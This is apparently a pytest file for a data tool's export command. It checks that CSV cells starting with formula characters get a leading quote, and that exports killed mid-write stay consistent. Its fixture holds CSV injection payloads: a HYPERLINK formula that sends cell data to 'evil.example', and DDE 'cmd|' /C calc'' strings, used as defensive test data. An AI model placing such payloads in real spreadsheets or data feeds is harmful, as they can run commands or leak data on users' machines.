"""Exports are safe to open and safe to interrupt: CSV cells are never spreadsheet formulas, and
a kill at any step leaves the previous export or the new one, each matching its descriptor."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from clusterradar.warehouse import connect, transaction
from clusterradar.warehouse.export import neutralise_cell
from clusterradar.warehouse.history import record_version
from clusterradar.warehouse.publish import recover
from tests.test_review_seed import add_cluster

HOSTILE_NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "plus": "+49 30 1234",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "separator": 'Harmlos;=1+1,"quoted"',
}


@pytest.fixture
def hostile_db(labelled_db):
    """Registry-controlled names that a spreadsheet would run as formulas."""
    with connect(labelled_db) as con, transaction(con):
        for key, name in HOSTILE_NAMES.items():
            add_cluster(con, f"evil-{key}", name, ["hessen"], "https://evil.example/")
            record_version(
                con,
                cluster_id=f"evil-{key}",
                dimension="intensity",
                labels=["no_svi_relevance"],
                valid_from=dt.date(2026, 1, 1),
                source="review",
                decided_by="anna",
            )
    return labelled_db


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Silicon Saxony e. V.", "Silicon Saxony e. V."),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_starting_with_a_formula_character_get_a_leading_quote(cell, written):
    assert neutralise_cell(cell) == written


def test_csv_export_neutralises_formulas_and_quotes_every_field(cli, hostile_db, tmp_path):
    out = tmp_path / "export"
    result = cli("--db", hostile_db, "export", "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.stderr
    with (out / "classifications.csv").open(encoding="utf-8", newline="") as handle:
        rows = {r["cluster_id"]: r for r in csv.DictReader(handle)}
    for key, name in HOSTILE_NAMES.items():
        written = rows[f"evil-{key}"]["cluster_name"]
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert written == (name if key == "separator" else "'" + name)
    for line in (out / "classifications.csv").read_text(encoding="utf-8").splitlines()[:3]:
        assert line.startswith('"') and line.endswith('"')  # QUOTE_ALL: ';' never splits a cell
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert "leading '" in package["resources"][0]["description"]


def test_json_and_parquet_keep_names_exactly(cli, hostile_db, tmp_path):
    out = tmp_path / "export"
    assert cli("--db", hostile_db, "export", "--format", "json", "--out", out).exit_code == 0
    rows = json.loads((out / "classifications.json").read_text(encoding="utf-8"))
    names = {r["cluster_id"]: r["cluster_name"] for r in rows}
    assert all(names[f"evil-{key}"] == name for key, name in HOSTILE_NAMES.items())


def test_export_refuses_a_folder_with_other_files_and_writes_nothing(cli, labelled_db, tmp_path):
    # tmp_path holds the warehouse itself: swapping the folder would take it away.
    before = sorted(p.name for p in tmp_path.iterdir())
    result = cli("--db", labelled_db, "export", "--out", tmp_path)
    assert result.exit_code == 1
    line = result.stderr.strip()
    assert line.startswith(
        f"error: --out: {tmp_path} holds files that are not part of an export (warehouse.duckdb"
    )
    assert line.endswith("); give the export a folder of its own") and "\n" not in line
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_datapackage_records_size_and_sha256_of_each_file(cli, labelled_db, tmp_path):
    out = tmp_path / "export"
    for fmt in ("csv", "parquet", "json"):
        assert cli("--db", labelled_db, "export", "--format", fmt, "--out", out).exit_code == 0
    assert set(export_state(out)) == {
        "classifications.csv",
        "classifications.parquet",
        "classifications.json",
    }


# --- interrupted exports ------------------------------------------------------------------

# Runs `clusterradar export` and dies (os._exit, like a kill: no cleanup, no finally) right
# before the CRASH_AT-th filesystem change under the export's parent folder. NO_EXCHANGE=1
# disables the atomic folder exchange, so the two-rename fallback is exercised instead.
CRASHING_EXPORT = r"""
import builtins, io, os, shutil, sys
from clusterradar.cli import main
from clusterradar.labels import load_taxonomy
import clusterradar.warehouse.export
from clusterradar.warehouse import publish

load_taxonomy()
area, crash_at = os.environ["EXPORT_AREA"], int(os.environ["CRASH_AT"])
steps = 0

def step(args):
    global steps
    if any(area in os.fsdecode(a) for a in args if isinstance(a, (str, bytes, os.PathLike))):
        steps += 1
        if steps == crash_at:
            os._exit(86)

def counted(owner, name, writes_only=False):
    real = getattr(owner, name)
    def wrapper(*args, **kwargs):
        mode = args[1] if len(args) > 1 else kwargs.get("mode", "r")
        if not writes_only or any(c in mode for c in "wax+"):
            step(args[:2])
        return real(*args, **kwargs)
    setattr(owner, name, wrapper)

for name in ("rename", "replace", "link", "mkdir", "unlink", "rmdir"):
    counted(os, name)
for name in ("rmtree", "copy2"):
    counted(shutil, name)
counted(io, "open", writes_only=True)
builtins.open = io.open
if os.environ.get("NO_EXCHANGE") == "1":
    publish.exchange = lambda first, second: False
counted(publish, "exchange")
sys.argv = ["clusterradar", *sys.argv[1:]]
main()
"""


def sha256(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def export_state(out: Path) -> dict[str, str] | None:
    """{file: hash} of a consistent export folder (None when there is none); fails when the
    descriptor and the files disagree in any way."""
    if not out.exists():
        return None
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    described = {r["path"]: r for r in package["resources"]}
    assert {p.name for p in out.iterdir()} == set(described) | {"datapackage.json"}
    for path, resource in described.items():
        data = (out / path).read_bytes()
        assert resource["hash"] == sha256(data), path
        # Parquet carries the hash only: frictionless cannot count a Parquet file's bytes.
        assert resource.get("bytes", len(data)) == len(data), path
        assert ("bytes" in resource) == (not path.endswith(".parquet")), path
    return {path: resource["hash"] for path, resource in described.items()}


def export_subprocess(db: Path, out: Path, as_of: str, **env: str) -> subprocess.Popen:
    args = ["--db", str(db), "export", "--format", "csv", "--out", str(out), "--as-of", as_of]
    return subprocess.Popen(
        [sys.executable, "-c", CRASHING_EXPORT, *args, "--force"],
        env={**os.environ, "EXPORT_AREA": str(out.parent), "CRASH_AT": "0", **env},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


@pytest.fixture
def two_exports(cli, labelled_db, tmp_path):
    """An existing export (CSV and JSON as of 2026-06-01) and the state a CSV export as of a
    later date with a different classification must turn it into."""
    with connect(labelled_db) as con, transaction(con):
        record_version(
            con,
            cluster_id="optence",
            dimension="intensity",
            labels=["no_svi_relevance"],
            valid_from=dt.date(2026, 7, 1),
            source="review",
            decided_by="ben",
        )
    out = tmp_path / "area" / "export"
    for fmt in ("csv", "json"):
        args = ("--db", labelled_db, "export", "--format", fmt, "--out", out)
        assert cli(*args, "--as-of", "2026-06-01").exit_code == 0
    old = export_state(out)
    reference = tmp_path / "reference"
    assert (
        cli("--db", labelled_db, "export", "--out", reference, "--as-of", "2026-07-01").exit_code
        == 0
    )
    new = {**old, "classifications.csv": export_state(reference)["classifications.csv"]}
    assert new != old
    return labelled_db, out, old, new


def leftovers(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name != out.name)


@pytest.mark.slow
@pytest.mark.parametrize("exchange", ["renameat2", "two renames"])
def test_a_crash_before_any_step_of_an_export_leaves_the_old_or_the_new_export(
    two_exports, exchange
):
    db, out, old, new = two_exports
    env = {"NO_EXCHANGE": "1"} if exchange == "two renames" else {}
    seen = []
    for crash_at in range(1, 60):
        process = export_subprocess(db, out, "2026-07-01", CRASH_AT=str(crash_at), **env)
        _, stderr = process.communicate(timeout=120)
        if process.returncode == 0:
            break
        assert process.returncode == 86, stderr.decode()
        state = export_state(out)
        if state is None:  # between the two renames of the fallback: nothing to disagree
            assert exchange == "two renames"
            recover(out)
            state = export_state(out)
        assert state in (old, new), f"crash before step {crash_at}"
        seen.append("old" if state == old else "new")
        # Whatever the crash left, the next export finishes and cleans up after it.
        again = export_subprocess(db, out, "2026-06-01")
        assert again.wait(120) == 0, again.stderr.read().decode()
        assert export_state(out) == old and leftovers(out) == []
    else:
        pytest.fail("the export never finished")
    assert export_state(out) == new and leftovers(out) == []
    assert len(seen) >= 5 and "old" in seen  # several crash points, before and after the swap
    assert seen == sorted(seen, key=["old", "new"].index)


@pytest.mark.slow
def test_exports_killed_at_random_moments_never_leave_a_mismatched_descriptor(two_exports):
    db, out, old, new = two_exports
    rng = random.Random(14)
    start = time.monotonic()
    assert export_subprocess(db, out, "2026-07-01").wait(120) == 0
    duration = time.monotonic() - start
    for attempt in range(12):
        as_of = "2026-06-01" if attempt % 2 else "2026-07-01"
        process = export_subprocess(db, out, as_of)
        time.sleep(rng.uniform(0.5, 1.0) * duration)
        process.send_signal(signal.SIGKILL)
        process.wait(60)
        state = export_state(out)
        if state is None:
            recover(out)
            state = export_state(out)
        assert state in (old, new)
